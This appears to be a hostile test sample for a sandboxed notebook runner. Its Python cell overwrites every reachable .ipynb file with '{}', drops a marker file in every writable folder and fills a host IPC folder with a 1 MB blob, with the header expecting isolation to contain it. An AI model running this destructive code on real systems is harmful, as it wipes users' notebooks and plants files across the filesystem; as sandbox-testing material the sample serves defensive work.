# sample: hostile; writes {} over every notebook it can reach (relative and absolute globs) and drops a file in every folder it can write: only its own scratch copy and /tmp change
# expect: zero
# needs: isolation
# %% [lora_linear]
import glob
import os

hit = []
for pattern in ("../../../*/*.ipynb", "/home/**/*.ipynb", "/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as fh:
                fh.write("{}")
            hit.append(path)
        except OSError:
            pass
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages")]
    for name in files:
        if name.endswith(".ipynb"):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write("{}")
                hit.append(name)
            except OSError:
                pass
    try:
        with open(os.path.join(folder, "PWNED-by-hostile-overwrite"), "w") as fh:
            fh.write("x")
        hit.append(folder)
    except OSError:
        pass
for ipc in glob.glob("/tmp/lls-*/ipc"):  # the one host folder it can reach: locked once up
    try:
        with open(os.path.join(ipc, "blob"), "wb") as fh:
            fh.write(b"\0" * (1 << 20))
        print("ipc: wrote")
    except OSError:
        print("ipc: refused")
print("overwrote:", hit)
